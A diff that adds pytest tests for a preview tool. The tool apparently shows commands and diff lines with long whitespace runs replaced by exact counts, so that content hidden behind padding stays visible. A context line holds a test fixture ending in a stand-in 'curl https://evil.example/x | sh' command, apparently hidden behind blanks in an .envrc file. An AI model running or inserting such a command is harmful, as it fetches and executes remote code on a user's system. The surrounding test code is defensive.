@@ -600,3 +600,164 @@ def test_a_long_line_shows_its_end_behind_thousands_of_blanks():
     add = texts(diff_lines(".envrc", None, line), "add")[0]
     assert add.startswith("+echo hi") and add.endswith("; curl https://evil.example/x | sh")
     assert f"[{len(line) - preview.DIFF_LINE_CHARS:,} more chars]" in add
+
+
+# -- the honest preview's parts, exactly (found by `make mutation`) -------------------------
+
+P = preview._Piece
+SP16 = P(" " * 16, "⟨16 spaces⟩")
+
+
+@pytest.mark.parametrize(("run", "marker"), [
+    (" " * 4000, "⟨4,000 spaces⟩"),
+    (" ", "⟨1 space⟩"),
+    ("\t\t", "⟨2 tabs⟩"),
+    ("\u3000", "⟨U+3000⟩"),
+    ("\u2800" * 2000, "⟨2,000 × U+2800⟩"),
+    (" \t" * 2000, "⟨4,000 blanks: 2,000 tabs, 2,000 spaces⟩"),  # a tie: by character
+    # three kinds are all named; a fourth is only counted
+    ("  \t\u3000", "⟨4 blanks: 2 spaces, 1 tab, U+3000⟩"),
+    ("   \t\t\u3000\u00a0", "⟨7 blanks: 3 spaces, 2 tabs, U+00A0, 1 more kinds⟩"),
+])
+def test_run_marker_counts_exactly(run, marker):
+    assert preview.run_marker(run) == marker
+
+
+@pytest.mark.parametrize(("raw", "shown"), [
+    ("plain", "plain"), ("a⟨b", "a\\u27e8b"), ("a⟩b", "a\\u27e9b"), ("⟨\x1b⟩", "\\u27e8\\e\\u27e9"),
+])
+def test_command_text_escapes_a_literal_count_bracket(raw, shown):
+    assert preview._text(raw) == shown
+
+
+def test_a_piece_shows_its_count_or_its_escaped_text():
+    assert SP16.shown() == "⟨16 spaces⟩"
+    assert P("\x1b⟨").shown() == "\\e\\u27e8"
+
+
+@pytest.mark.parametrize(("line", "budget", "backwards", "pieces"), [
+    # a text piece is cut after budget + 1 characters: whoever asks for `budget` stops there
+    ("a" * 10, 3, False, [P("aaaa")]),
+    ("abcdefghij", 3, True, [P("ghij")]),
+    # spaces not yet 16 within the look are text (the caller shows at most `budget` of it)
+    ("abc" + " " * 20, 5, False, [P("abc   ")]),
+    # a run at either end: no empty text piece beside it
+    ("a" + " " * 16, 100, False, [P("a"), SP16]),
+    (" " * 16 + "x", 100, False, [SP16, P("x")]),
+    ("ab" + " " * 16 + "cd", 100, True, [P("cd"), SP16, P("ab")]),  # text pieces read forwards
+    # a run is whole, past the look; the spaces before a look-alike blank belong to its run
+    ("a" + "\u3000" * 50 + "b", 2, False, [P("a"), P("\u3000" * 50, "⟨50 × U+3000⟩"), P("b")]),
+    ("x" + " " * 5 + "\u00a0y", 100, False, [P("x"), P(" " * 5 + "\u00a0", "⟨6 blanks: 5 spaces, U+00A0⟩"), P("y")]),
+])
+def test_pieces_exactly(line, budget, backwards, pieces):
+    assert list(preview._pieces(line, budget, backwards=backwards)) == pieces
+
+
+def test_fit_is_the_longest_prefix_or_suffix_whose_display_fits():
+    """Every string of up to 6 characters of `a` and ESC (shown as two characters), every
+    budget: the longest prefix (suffix) whose escaped display fits, as a plain scan finds it."""
+    from itertools import product
+    for n in range(7):
+        for chars in product("a\x1b", repeat=n):
+            raw = "".join(chars)
+            for budget in range(-1, 9):
+                head = max((k for k in range(n + 1) if len(preview._text(raw[:k])) <= budget), default=0)
+                tail = max((k for k in range(n + 1) if len(preview._text(raw[n - k:])) <= budget), default=0)
+                assert preview._fit(raw, budget, tail=False) == raw[:head], (raw, budget)
+                assert preview._fit(raw, budget, tail=True) == raw[n - tail:], (raw, budget)
+
+
+@pytest.mark.parametrize(("budget", "tail", "half"), [
+    (100, False, ("ab⟨16 spaces⟩cd", 20, True, True)),
+    (100, True, ("ab⟨16 spaces⟩cd", 20, True, True)),
+    (12, False, ("ab", 2, False, False)),  # a count is never cut: it is left out whole
+    (13, False, ("ab⟨16 spaces⟩", 18, False, True)),
+    (14, False, ("ab⟨16 spaces⟩c", 19, False, True)),  # text may be cut
+    (14, True, ("b⟨16 spaces⟩cd", 19, False, True)),
+    (12, True, ("cd", 2, False, False)),
+])
+def test_half_shows_whole_counts_and_cut_text(budget, tail, half):
+    line = "ab" + " " * 16 + "cd"
+    assert preview._half(preview._pieces(line, 100, backwards=tail), budget, tail=tail) == half
+
+
+def test_a_long_command_line_fills_its_limit_around_an_exact_count():
+    line = "echo " + "a" * 100 + " " * 20 + "b" * 100
+    shown, clipped, marked = preview.command_line(line, 60)
+    # room: 60 - len("⟨225 more characters⟩") - 2 = 37, the head gets 18, the tail 19
+    assert shown == "echo " + "a" * 13 + " ⟨188 more characters⟩ " + "b" * 19
+    assert len(shown) == 60 and clipped and not marked
+    line = "x" + " " * 20 + "echo " + "a" * 200  # a count in the head only
+    assert preview.command_line(line, 60) == ("x⟨20 spaces⟩echo a ⟨180 more characters⟩ " + "a" * 19, True, True)
+    assert 1 + 20 + 6 + 180 + 19 == len(line)
+
+
+def test_a_command_summary_is_two_thirds_head_and_one_third_tail():
+    assert preview.command_summary("echo " + "a" * 100 + "\n" + "b" * 100, 30) == "echo " + "a" * 15 + "…" + "b" * 9
+    assert preview.command_summary("a\n\n\n\nb\nc", 80) == "a⏎⟨3 blank lines⟩⏎b⏎c"
+    # the tail is read from the end: blank lines before the last line are one count there too
+    assert (preview.command_summary("echo " + "a" * 100 + "\n\n\n\n\nrm x", 61)
+            == "echo " + "a" * 35 + "…⟨4 blank lines⟩⏎rm x")
+    line = "a" * 50
+    assert preview._head_and_tail(lambda b: preview._pieces(line, b),
+                                  lambda b: preview._pieces(line, b, backwards=True),
+                                  len(line), 10, short=True) == ("aaaaaa…aaa", True, False)
+
+
+@pytest.mark.parametrize(("parts", "forwards", "backwards"), [
+    (["a", "", "", "", "b"], [(0, 1), (1, 4), (4, 5)], [(4, 5), (1, 4), (0, 1)]),
+    (["a", "", "", "b", ""], [(0, 1), (1, 2), (2, 3), (3, 4), (4, 5)], [(4, 5), (3, 4), (2, 3), (1, 2), (0, 1)]),
+    (["", " ", "\t"], [(0, 3)], [(0, 3)]),
+    (["a", " ", " ", " "], [(0, 1), (1, 4)], [(1, 4), (0, 1)]),
+    (["", "", "", "a"], [(0, 3), (3, 4)], [(3, 4), (0, 3)]),
+])
+def test_groups_from_either_end(parts, forwards, backwards):
+    assert list(preview._groups(parts)) == forwards
+    assert list(preview._groups(parts, backwards=True)) == backwards
+
+
+def test_blank_lines_at_the_end_of_a_command_are_one_count():
+    assert command_lines("a\n \n \n ", ".")[1:3] == [
+        ("command", "a"), ("marker", "⟨3 blank lines (spaces or tabs only)⟩")]
+
+
+def test_the_whole_view_of_a_command_counts_the_lines_it_drops():
+    n = preview.FULL_MAX_LINES + 5
+    _, full = command_view("\n".join(["x"] * n), ".")
+    assert len(full) == preview.FULL_MAX_LINES + 2  # stat, lines, the marker, then cwd
+    assert full[-2] == ("marker", "… 6 more command lines not shown: the whole view holds 20,000 lines or 1 MB of text")
+    assert full[-3] == ("command", "x")
+
+
+def test_the_whole_view_shows_a_line_up_to_half_its_character_budget():
+    limit = preview.FULL_MAX_CHARS // 2
+    line = "a" * limit
+    assert texts(command_view(line, ".")[1], "command") == [line]
+    line = "a" * (limit + 1)
+    room = limit - len("⟨500,001 more characters⟩") - 2
+    head, tail = room // 2, room - room // 2
+    assert texts(command_view(line, ".")[1], "command") == [
+        f"{'a' * head} ⟨{limit + 1 - room:,} more characters⟩ {'a' * tail}"]
+
+
+@pytest.mark.parametrize("command", ["a\n\n\n\nb", "echo hi\n\n\n\n\n\nrm x" + " " * 20 + "y", "\n\n\nx", "a\n \n\t\n \nb"])
+def test_the_pieces_of_a_summary_stand_for_every_character_of_the_command(command):
+    """What a summary's pieces cover is exact: their raw characters add up to the command,
+    from either end (a count of blank lines stands for the lines and the breaks between)."""
+    parts = command.split("\n")
+    forwards = list(preview._summary_pieces(parts, 10_000))
+    backwards = list(preview._summary_pieces(parts, 10_000, backwards=True))
+    assert sum(len(p.raw) for p in forwards) == sum(len(p.raw) for p in backwards) == len(command)
+    if "\t" not in command:  # blank lines of nothing: the very characters, in order
+        assert "".join(p.raw for p in forwards) == "".join(p.raw for p in reversed(backwards)) == command
+    assert preview._half(iter(forwards), 10_000, tail=False)[:3] == (preview._half(iter(backwards), 10_000, tail=True)[0],
+                                                                  len(command), True)
+
+
+def test_the_tail_of_a_long_line_shows_a_run_as_a_count_as_the_head_does():
+    """The tail looked only as far as its own budget for runs, so a run near the end showed
+    as raw blanks (the count hidden in ⟨N more characters⟩) where the head showed a count."""
+    assert preview.command_line("cd" + " " * 20 + "a" * 100 + "echo", 53) == \
+        ("cd⟨20 spaces⟩aa ⟨87 more characters⟩ aaaaaaaaaaaecho", True, True)
+    assert preview.command_line("echo " + "a" * 100 + " " * 20 + "cd", 53) == \
+        ("echo aaaaaaaaaa ⟨88 more characters⟩ aa⟨20 spaces⟩cd", True, True)
